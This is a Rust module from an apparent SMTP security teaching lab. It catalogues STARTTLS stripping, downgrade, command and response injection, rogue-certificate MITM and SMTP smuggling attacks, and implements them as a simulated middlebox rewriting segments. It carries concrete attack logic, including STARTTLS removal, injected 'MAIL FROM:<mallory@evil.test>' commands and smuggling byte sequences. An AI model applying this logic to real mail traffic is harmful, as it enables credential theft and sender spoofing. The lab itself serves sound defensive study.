//! The attack catalogue and the attacker: a sans-IO [`Middlebox`] that sees
//! every segment and passes, drops, rewrites or injects bytes, and for
//! `mitm-cert` terminates TLS with a certificate of its own.
//!
//! The attacker only acts on the wire. Whether an attack works is decided by
//! the client's and server's settings, and read afterwards from the trace by
//! [`crate::outcome`].

use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::pki::{IdentityKind, Pki};
use crate::tls::{SimClock, TlsStream};
use crate::trace::Direction;
use crate::wire::{Middlebox, Segment};

/// Every attack (and misconfiguration) the lab can show. Serialised as its catalogue id.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Attack {
    Eavesdrop,
    Strip,
    Refuse454,
    Refuse502,
    RefuseBogus,
    HideEhlo,
    CmdInject,
    RespInject,
    StateCarry,
    MitmCert,
    AuthCleartext,
    SmuggleLfDotCrlf,
    SmuggleLfDotLf,
    SmuggleCrDotCrlf,
    SmuggleCrlfDotLf,
    PortBlock,
    WrongModeImplicitTo587,
    WrongModeStarttlsTo465,
}

impl Serialize for Attack {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(self.info().id)
    }
}

impl<'de> Deserialize<'de> for Attack {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let id = String::deserialize(d)?;
        Attack::from_id(&id).ok_or_else(|| serde::de::Error::custom(format!("unknown attack {id:?}")))
    }
}

/// What the catalogue says about an attack.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AttackInfo {
    pub id: &'static str,
    /// The row of the catalogue this belongs to (variants share one).
    pub family: &'static str,
    pub title: &'static str,
    pub explanation: &'static str,
    pub references: &'static [&'static str],
}

/// What the strip and mitm attackers put where STARTTLS was, so the client
/// believes it may authenticate.
const FAKE_AUTH: &[u8] = b"AUTH PLAIN LOGIN";
/// Commands appended after STARTTLS by cmd-inject.
pub const INJECTED_COMMANDS: &[u8] = b"RSET\r\nMAIL FROM:<mallory@evil.test>\r\n";
/// A reply appended after "220 Ready to start TLS" by resp-inject.
pub const FORGED_REPLY: &[u8] = b"250 mail.example.test at your service (forged by Mallory)\r\n";

impl Attack {
    pub const ALL: [Attack; 18] = [
        Attack::Eavesdrop,
        Attack::Strip,
        Attack::Refuse454,
        Attack::Refuse502,
        Attack::RefuseBogus,
        Attack::HideEhlo,
        Attack::CmdInject,
        Attack::RespInject,
        Attack::StateCarry,
        Attack::MitmCert,
        Attack::AuthCleartext,
        Attack::SmuggleLfDotCrlf,
        Attack::SmuggleLfDotLf,
        Attack::SmuggleCrDotCrlf,
        Attack::SmuggleCrlfDotLf,
        Attack::PortBlock,
        Attack::WrongModeImplicitTo587,
        Attack::WrongModeStarttlsTo465,
    ];

    pub fn from_id(id: &str) -> Option<Attack> {
        Attack::ALL.into_iter().find(|a| a.info().id == id)
    }

    /// The bytes a smuggling sender places in its body, if this is a smuggling variant.
    pub fn smuggle_sequence(self) -> Option<&'static [u8]> {
        match self {
            Attack::SmuggleLfDotCrlf => Some(b"\n.\r\n"),
            Attack::SmuggleLfDotLf => Some(b"\n.\n"),
            Attack::SmuggleCrDotCrlf => Some(b"\r.\r\n"),
            Attack::SmuggleCrlfDotLf => Some(b"\r\n.\n"),
            _ => None,
        }
    }

    /// Whether this attack needs a middlebox on the wire at all.
    pub fn on_the_wire(self) -> bool {
        self.smuggle_sequence().is_none() && !matches!(self, Attack::WrongModeImplicitTo587 | Attack::WrongModeStarttlsTo465)
    }

    pub fn info(self) -> AttackInfo {
        let (id, family, title, explanation, references): (_, _, _, _, &'static [&'static str]) = match self {
            Attack::Eavesdrop => ("eavesdrop", "eavesdrop", "Passive sniffing",
                "Mallory only listens. Whatever crosses the wire before TLS starts, or without TLS at all, she reads: the envelope, the message, and an AUTH PLAIN or LOGIN exchange, which is base64 and not encryption.",
                &["RFC 8314 §1"]),
            Attack::Strip => ("strip", "strip", "STARTTLS stripping",
                "Mallory deletes the STARTTLS line from the server's EHLO reply (and, since she controls the cleartext, advertises AUTH in its place). A client that only uses TLS when offered carries on in cleartext and sends its password; a client that requires TLS quits.",
                &["RFC 3207 §6", "RFC 8314 §5"]),
            Attack::Refuse454 => ("refuse-454", "refuse", "STARTTLS refused (454)",
                "Mallory answers the client's STARTTLS herself with 454 4.7.0 TLS not available. The server never sees the STARTTLS. A client that falls back to cleartext after any reply other than 220 is downgraded.",
                &["RFC 3207 §4.1"]),
            Attack::Refuse502 => ("refuse-502", "refuse", "STARTTLS refused (502)",
                "As refuse-454, with 502 5.5.1 command not implemented: the server seems not to know STARTTLS at all.",
                &["RFC 3207 §4.1"]),
            Attack::RefuseBogus => ("refuse-bogus", "refuse", "STARTTLS answered with a bogus code",
                "Mallory answers STARTTLS with 250, a success code that is not the 220 the protocol requires. Only a client that treats anything but 220 as failure stays safe.",
                &["RFC 3207 §4.1"]),
            Attack::HideEhlo => ("hide-ehlo", "hide-ehlo", "ESMTP hiding",
                "Mallory answers EHLO with 502 herself, so the client falls back to HELO. HELO carries no extensions, so there is no STARTTLS to use.",
                &["RFC 5321 §4.1.4", "RFC 3207 §4.2"]),
            Attack::CmdInject => ("cmd-inject", "cmd-inject", "STARTTLS command injection (CVE-2011-0411)",
                "Mallory appends commands to the client's STARTTLS, in the same segment. A server that keeps its input buffer across the upgrade executes them after the handshake, as if the client had sent them through TLS.",
                &["CVE-2011-0411", "RFC 3207 §4.2"]),
            Attack::RespInject => ("resp-inject", "resp-inject", "STARTTLS response injection",
                "Mallory appends a forged reply to the server's 220 Ready to start TLS. A client that keeps its read buffer across the upgrade takes it as the server's first reply inside TLS.",
                &["libetpan #386", "nodemailer #1835", "RFC 3207 §4.2"]),
            Attack::StateCarry => ("state-carry", "state-carry", "State carried over the upgrade",
                "Mallory rewrites the cleartext EHLO reply. A client that reuses what it learned before TLS, instead of sending EHLO again, acts inside TLS on capabilities the attacker wrote.",
                &["RFC 3207 §4.2"]),
            Attack::MitmCert => ("mitm-cert", "mitm-cert", "Certificate substitution",
                "Mallory answers STARTTLS herself and completes the handshake with her own certificate for the server's name, issued by her own CA. She reads everything and relays it to the server in cleartext. Only a client that validates the certificate notices.",
                &["RFC 8314 §5", "RFC 8461", "RFC 7672"]),
            Attack::AuthCleartext => ("auth-cleartext", "auth-cleartext", "AUTH before TLS",
                "Nothing active: Mallory reads an AUTH exchange sent before TLS. A server that hides AUTH until TLS, and a client that never authenticates in cleartext, leave her nothing.",
                &["RFC 4954 §4"]),
            Attack::SmuggleLfDotCrlf => ("smuggle-lf-dot-crlf", "smuggle", "SMTP smuggling with \\n.\\r\\n",
                "The sender ends its message with \\n.\\r\\n and follows it with a second, spoofed MAIL FROM, RCPT and DATA. A receiver that accepts a bare LF before the final dot sees two messages; the second comes from anyone the sender likes.",
                &["CVE-2023-51764", "SEC Consult 2023", "RFC 5321 §2.3.8, §4.1.1.4"]),
            Attack::SmuggleLfDotLf => ("smuggle-lf-dot-lf", "smuggle", "SMTP smuggling with \\n.\\n",
                "As smuggle-lf-dot-crlf, with bare LF on both sides of the dot.",
                &["CVE-2023-51764", "SEC Consult 2023", "RFC 5321 §2.3.8"]),
            Attack::SmuggleCrDotCrlf => ("smuggle-cr-dot-crlf", "smuggle", "SMTP smuggling with \\r.\\r\\n",
                "As smuggle-lf-dot-crlf, with a bare CR before the dot.",
                &["CVE-2023-51766", "SEC Consult 2023", "RFC 5321 §2.3.8"]),
            Attack::SmuggleCrlfDotLf => ("smuggle-crlf-dot-lf", "smuggle", "SMTP smuggling with \\r\\n.\\n",
                "As smuggle-lf-dot-crlf, with a bare LF after the dot.",
                &["CVE-2023-51765", "SEC Consult 2023", "RFC 5321 §2.3.8"]),
            Attack::PortBlock => ("port-block", "port-block", "ISP blocks port 25",
                "A consumer ISP drops outgoing connections to port 25 to stop spam from infected machines. Submission on 587 or 465 gets through.",
                &["RFC 5068 §3", "RFC 6409"]),
            Attack::WrongModeImplicitTo587 => ("wrong-mode-implicit-to-587", "wrong-mode", "Implicit-TLS client pointed at a STARTTLS port",
                "Not an attack: the client starts a TLS handshake, the server greets in cleartext. The server reads the ClientHello as a garbled command; the client reads the 220 greeting as a corrupt TLS record.",
                &["RFC 8314 §3.3"]),
            Attack::WrongModeStarttlsTo465 => ("wrong-mode-starttls-to-465", "wrong-mode", "STARTTLS client pointed at port 465",
                "Not an attack: the client waits for a cleartext greeting, the server waits for a ClientHello. Neither speaks, until a timeout ends it.",
                &["RFC 8314 §3.3"]),
        };
        AttackInfo { id, family, title, explanation, references }
    }
}

/// The attacker on the wire.
pub struct Attacker {
    attack: Attack,
    port: u16,
    pki: Arc<Pki>,
    clock: SimClock,
    epoch_unix: u64,
    mitm: Option<Box<TlsStream>>,
}

impl Attacker {
    pub fn new(attack: Attack, port: u16, pki: Arc<Pki>, epoch_unix: u64) -> Self {
        Attacker { attack, port, pki, clock: SimClock::new(epoch_unix), epoch_unix, mitm: None }
    }
}

fn is_line(bytes: &[u8], line: &[u8]) -> bool {
    bytes.split(|&b| b == b'\n').any(|l| l.strip_suffix(b"\r").unwrap_or(l).eq_ignore_ascii_case(line))
}

/// Rewrites a cleartext EHLO reply: STARTTLS becomes AUTH (or disappears if
/// AUTH is there already). Continuation marks stay consistent because the
/// line is replaced in place or, when last, its predecessor takes its mark.
fn strip_starttls(bytes: &[u8]) -> Option<Vec<u8>> {
    let lines: Vec<&[u8]> = bytes.split_inclusive(|&b| b == b'\n').collect();
    let pos = lines.iter().position(|l| l.len() >= 12 && l[..3] == *b"250" && l[4..].to_ascii_uppercase().starts_with(b"STARTTLS"))?;
    let has_auth = lines.iter().any(|l| l.len() > 8 && l[4..].to_ascii_uppercase().starts_with(b"AUTH"));
    let mut out = Vec::new();
    for (i, l) in lines.iter().enumerate() {
        if i != pos {
            out.extend_from_slice(l);
        } else if !has_auth {
            out.extend_from_slice(&l[..4]);
            out.extend_from_slice(FAKE_AUTH);
            out.extend_from_slice(b"\r\n");
        } else if l[3] == b' ' {
            // The last line goes: the one before it becomes the last.
            let start = out.len() - lines[i - 1].len();
            out[start + 3] = b' ';
        }
    }
    Some(out)
}

/// Adds a fake AUTH line to a cleartext EHLO reply that lacks one.
fn add_auth(bytes: &[u8]) -> Option<Vec<u8>> {
    if !bytes.starts_with(b"250-") || bytes.windows(5).any(|w| w.eq_ignore_ascii_case(b"-AUTH")) {
        return None;
    }
    let first_end = bytes.iter().position(|&b| b == b'\n')? + 1;
    let mut out = bytes[..first_end].to_vec();
    out.extend_from_slice(b"250-");
    out.extend_from_slice(FAKE_AUTH);
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(&bytes[first_end..]);
    Some(out)
}

fn rewritten(mut seg: Segment, bytes: Vec<u8>, note: &str) -> Segment {
    seg.bytes = bytes;
    seg.note = Some(note.to_owned());
    seg
}

fn dropped(mut seg: Segment, note: &str) -> Segment {
    seg.deliver = false;
    seg.note = Some(note.to_owned());
    seg
}

impl Middlebox for Attacker {
    fn on_segment(&mut self, seg: Segment, now: Duration) -> Vec<Segment> {
        self.clock.set(self.epoch_unix + now.as_secs());
        let c2s = seg.direction == Direction::ClientToServer;
        let clear = !seg.tls && !seg.fin;
        match self.attack {
            Attack::PortBlock if self.port == 25 => vec![dropped(seg, "the ISP's firewall drops traffic to port 25")],
            Attack::Strip if !c2s && clear => match strip_starttls(&seg.bytes) {
                Some(b) => vec![rewritten(seg, b, "Mallory deleted STARTTLS from the EHLO reply and advertised AUTH instead")],
                None => vec![seg],
            },
            Attack::Refuse454 | Attack::Refuse502 | Attack::RefuseBogus if c2s && clear && is_line(&seg.bytes, b"STARTTLS") => {
                let reply: &[u8] = match self.attack {
                    Attack::Refuse454 => b"454 4.7.0 TLS not available due to local problem\r\n",
                    Attack::Refuse502 => b"502 5.5.1 Error: command not implemented\r\n",
                    _ => b"250 2.0.0 Ok\r\n",
                };
                vec![
                    dropped(seg, "Mallory kept the STARTTLS from the server"),
                    Segment::injected(Direction::ServerToClient, reply.to_vec(), "Mallory answered STARTTLS herself"),
                ]
            }
            Attack::HideEhlo if c2s && clear && seg.bytes.len() > 5 && seg.bytes[..5].eq_ignore_ascii_case(b"EHLO ") => vec![
                dropped(seg, "Mallory kept the EHLO from the server"),
                Segment::injected(
                    Direction::ServerToClient,
                    b"502 5.5.1 Error: command not recognized\r\n".to_vec(),
                    "Mallory refused EHLO herself",
                ),
            ],
            Attack::CmdInject if c2s && clear && seg.bytes.ends_with(b"STARTTLS\r\n") => {
                let mut b = seg.bytes.clone();
                b.extend_from_slice(INJECTED_COMMANDS);
                vec![rewritten(seg, b, "Mallory appended commands after STARTTLS in the same segment")]
            }
            Attack::RespInject
                if !c2s && clear && seg.bytes.starts_with(b"220 ") && is_line(&seg.bytes, b"220 2.0.0 Ready to start TLS") =>
            {
                let mut b = seg.bytes.clone();
                b.extend_from_slice(FORGED_REPLY);
                vec![rewritten(seg, b, "Mallory appended a forged reply after 220 Ready to start TLS")]
            }
            Attack::StateCarry if !c2s && clear => match add_auth(&seg.bytes) {
                Some(b) => vec![rewritten(seg, b, "Mallory added AUTH to the cleartext EHLO reply")],
                None => vec![seg],
            },
            Attack::MitmCert => self.mitm(seg),
            _ => vec![seg],
        }
    }
}

impl Attacker {
    /// Certificate substitution: Mallory is the TLS server for the client and
    /// a cleartext client for the server.
    fn mitm(&mut self, seg: Segment) -> Vec<Segment> {
        let c2s = seg.direction == Direction::ClientToServer;
        if seg.fin {
            return vec![seg];
        }
        let Some(tls) = &mut self.mitm else {
            if c2s && !seg.tls && is_line(&seg.bytes, b"STARTTLS") {
                let stream = TlsStream::server(&self.pki, IdentityKind::UntrustedCa, &self.clock);
                self.mitm = stream.ok().map(Box::new);
                return vec![
                    dropped(seg, "Mallory kept the STARTTLS from the server and will do TLS herself"),
                    Segment::injected(Direction::ServerToClient, b"220 2.0.0 Ready to start TLS\r\n".to_vec(), "Mallory answered STARTTLS"),
                ];
            }
            return vec![seg];
        };
        if c2s {
            let plain = tls.receive(&seg.bytes).unwrap_or_default();
            let back = tls.take_outgoing();
            let mut out = vec![dropped(seg, "Mallory's TLS endpoint took this segment")];
            if !back.is_empty() {
                out.push(Segment::injected(Direction::ServerToClient, back, "Mallory's TLS handshake, with her certificate"));
            }
            if !plain.is_empty() {
                let mut relay =
                    Segment::injected(Direction::ClientToServer, plain.clone(), "Mallory decrypted this and relays it in cleartext");
                relay.attacker_view = Some(plain);
                out.push(relay);
            }
            out
        } else {
            // The server's cleartext replies, doctored like a strip, then encrypted for the client.
            let plain = strip_starttls(&seg.bytes).unwrap_or_else(|| seg.bytes.clone());
            tls.send(&plain);
            let mut out = seg;
            out.bytes = tls.take_outgoing();
            out.tls = true;
            out.attacker_view = Some(plain);
            out.note = Some("Mallory read the server's reply and re-encrypted it for the client".into());
            vec![out]
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strip_keeps_continuation_marks_consistent() {
        let got = strip_starttls(b"250-mx\r\n250-PIPELINING\r\n250-STARTTLS\r\n250 8BITMIME\r\n").unwrap();
        assert_eq!(got, b"250-mx\r\n250-PIPELINING\r\n250-AUTH PLAIN LOGIN\r\n250 8BITMIME\r\n");
        let got = strip_starttls(b"250-mx\r\n250-AUTH PLAIN\r\n250 STARTTLS\r\n").unwrap();
        assert_eq!(got, b"250-mx\r\n250 AUTH PLAIN\r\n");
        assert_eq!(strip_starttls(b"250 ok\r\n"), None);
    }

    #[test]
    fn ids_are_unique_and_round_trip() {
        for a in Attack::ALL {
            assert_eq!(Attack::from_id(a.info().id), Some(a));
            let json = serde_json::to_string(&a).unwrap();
            assert_eq!(json, format!("\"{}\"", a.info().id));
            assert_eq!(serde_json::from_str::<Attack>(&json).unwrap(), a);
        }
        let mut ids: Vec<_> = Attack::ALL.iter().map(|a| a.info().id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), Attack::ALL.len());
    }
}
